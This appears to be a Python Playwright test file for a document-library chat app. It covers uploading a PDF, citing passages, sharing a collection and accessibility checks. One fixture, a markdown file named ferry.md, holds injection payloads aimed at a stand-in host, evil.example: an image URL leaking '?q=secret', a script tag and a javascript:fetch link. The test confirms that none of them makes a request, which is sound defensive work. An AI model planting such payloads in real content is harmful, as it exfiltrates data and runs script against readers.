"""Documents from the drop to the citation, and what a collection opens and closes: on the real server."""

import secrets
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from server.tests.parsing.made_files import pdf_of_pages, text_on_page
from testbed.chatkeep_server import ServerProcess
from ui.tests.browser.people import PASSWORD, PATIENCE, Tab, violations

pytestmark = [pytest.mark.browser, pytest.mark.slow]

FEEDING = "A grey heron of two kilograms eats 330 grams of fish a day."
# Pages long enough for passages of their own, of which only the second speaks of herons.
REEDS = [f"Reed {n} is cut in autumn, dried in a barn and sold to those who thatch roofs." for n in range(45)]
WATER = [f"Herons of pond {n} stand still for hours, and wait until something moves." for n in range(44)]
HERONS = pdf_of_pages([text_on_page(*REEDS), text_on_page(FEEDING, *WATER)])
HOSTILE = b"""# Ferry

![chart](http://evil.example/?q=secret) <img src="http://evil.example/?q=secret"> <script src="//evil.example"></script>
[here](javascript:fetch('http://evil.example')) [1]: http://evil.example

The ferry leaves at nine.
"""
DROP = """([name, bytes]) => {
    const files = new DataTransfer();
    files.items.add(new File([new Uint8Array(bytes)], name));
    for (const kind of ["dragover", "drop"]) {
        document.body.dispatchEvent(new DragEvent(kind, {dataTransfer: files, bubbles: true, cancelable: true}));
    }
}"""


@dataclass
class Reader:
    """Somebody on the pages of documents."""

    page: Page
    email: str

    def go(self, path: str, heading: str) -> None:
        self.page.goto(path)
        expect(self.page.get_by_role("heading", name=heading, level=1)).to_be_visible()

    def drop(self, name: str, content: bytes) -> None:
        """Drop a file on the page, and wait until it has been read."""
        self.page.evaluate(DROP, [name, list(content)])
        row = self.page.locator("#documents > li").filter(has_text=name)
        expect(row.get_by_role("link", name=name, exact=True)).to_be_visible(timeout=PATIENCE)

    def press(self, name: str) -> None:
        self.page.get_by_role("button", name=name, exact=True).click()


@pytest.fixture
def reader(chat_server: ServerProcess, profile: Callable[..., BrowserContext]) -> Callable[..., Reader]:
    """Somebody who has just registered: by the API, which needs no Streamlit to load."""

    def new(**options: object) -> Reader:
        page = profile(base_url=chat_server.url, **options).new_page()
        email = f"reader-{secrets.token_hex(4)}@example.org"
        assert page.request.post("/auth/register", data={"email": email, "password": PASSWORD}).status == 201
        page.goto("/sign-in?then=/library")
        page.get_by_label("E-mail").fill(email)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in", exact=True).click()
        expect(page.get_by_text("Nothing here yet.")).to_be_visible()
        return Reader(page, email)

    return new


def looks(page: Page, *, phone: bool = False) -> list[str]:
    """What axe finds, on a desktop in the light or on a phone in the dark; and whether the phone has to scroll."""
    if not phone:
        return violations(page)
    page.emulate_media(color_scheme="dark")
    page.set_viewport_size({"width": 390, "height": 844})
    found = violations(page)
    if page.evaluate("document.documentElement.scrollWidth") > 390:
        found.append(f"{page.url} is wider than a phone")
    page.emulate_media(color_scheme="light")
    page.set_viewport_size({"width": 1280, "height": 844})
    return found


def test_from_the_drop_to_the_citation_at_its_page(reader: Callable[..., Reader], chat_server: ServerProcess) -> None:
    ada = reader()
    found = looks(ada.page, phone=True)
    ada.drop("herons.pdf", HERONS)
    found += looks(ada.page)
    ada.page.get_by_role("link", name="Ask in a chat").click()
    chat = Tab(ada.page, chat_server.url).wait()
    expect(ada.page.get_by_role("combobox", name="Documents")).to_have_value("All documents", timeout=PATIENCE)
    expect(ada.page.get_by_text("Ask your documents.")).to_be_visible()
    answer = chat.ask("[[say So much fish [1], and more [9].]] How many grams of fish does a heron eat?")
    expect(answer.locator(".ck-words")).to_have_text("So much fish 1, and more.")
    found += looks(ada.page)
    with ada.page.context.expect_page() as opened:
        answer.locator(".ck-cite").click()
    passage = opened.value
    expect(passage.locator(".cited")).to_contain_text(FEEDING)
    expect(passage.locator(".where")).to_contain_text("2 of 2")
    found += looks(passage, phone=True)
    passage.close()
    with ada.page.context.expect_page() as opened:
        answer.get_by_role("link", name="How it was found").click()
    expect(opened.value.get_by_text("shown as 1").first).to_be_visible()
    found += looks(opened.value)
    opened.value.close()

    ada.page.reload()
    expect(chat.answers.last.locator(".ck-source")).to_have_count(1, timeout=PATIENCE)
    expect(ada.page.get_by_role("combobox", name="Documents")).to_have_value("All documents", timeout=PATIENCE)
    assert found == []


def test_a_collection_opens_to_a_second_person_and_closes_again(reader: Callable[..., Reader]) -> None:
    ada, bob = reader(), reader()
    ada.go("/library/collections", "Collections")
    ada.page.get_by_label("Name").fill("Birds")
    ada.press("Make the collection")
    ada.drop("herons.pdf", HERONS)
    search = "/library/search?q=how+much+fish+does+a+heron+eat"
    bob.go(search, "Search in documents")
    expect(bob.page.get_by_text("Nothing of this is in your documents")).to_be_visible()

    ada.page.get_by_label("E-mail address").fill(bob.email)
    ada.press("Add")
    expect(ada.page.get_by_role("button", name=f"Remove {bob.email}")).to_be_visible()
    found = looks(ada.page, phone=True)
    bob.go(search, "Search in documents")
    found += looks(bob.page)
    bob.page.get_by_role("link", name="herons.pdf").first.click()
    expect(bob.page.locator(".cited")).to_be_visible()
    passage = bob.page.url

    ada.press(f"Remove {bob.email}")
    expect(ada.page.get_by_text("Only you see this collection.")).to_be_visible()
    bob.page.goto(passage)
    expect(bob.page.get_by_role("alert")).to_contain_text("no longer shared with you")
    bob.go(search, "Search in documents")
    expect(bob.page.get_by_text("Nothing of this is in your documents")).to_be_visible()

    ada.page.get_by_text("Delete…", exact=True).click()
    ada.press("Yes, delete herons.pdf")
    expect(ada.page.get_by_text("Nothing here yet.")).to_be_visible()
    ada.page.goto(passage)
    expect(ada.page.get_by_role("alert")).to_contain_text("has been deleted")
    assert found == []


def test_a_hostile_document_makes_no_request_wherever_it_is_shown(
    reader: Callable[..., Reader], chat_server: ServerProcess
) -> None:
    ada = reader()
    requests: list[str] = []
    ada.page.context.on("request", lambda request: requests.append(request.url))
    ada.drop("ferry.md", HOSTILE)
    ada.page.get_by_role("link", name="ferry.md", exact=True).click()
    expect(ada.page.locator(".cited")).to_contain_text("The ferry leaves at nine.")
    assert ada.page.locator("section :is(script, iframe, section img, a[href^='javascript'])").count() == 0
    ada.go("/library/search?q=ferry", "Search in documents")
    expect(ada.page.locator(".words").first).to_contain_text("ferry")
    assert ada.page.locator("section :is(script, img, a[href*='evil'], a[href^='javascript'])").count() == 0
    with ada.page.expect_download() as download:
        ada.page.goto("/library")
        ada.page.get_by_role("link", name="Download ferry.md").click()
    assert download.value.suggested_filename == "ferry.md"

    assert {url.split("/")[2] for url in requests if url.startswith("http")} == {chat_server.url.split("/")[2]}
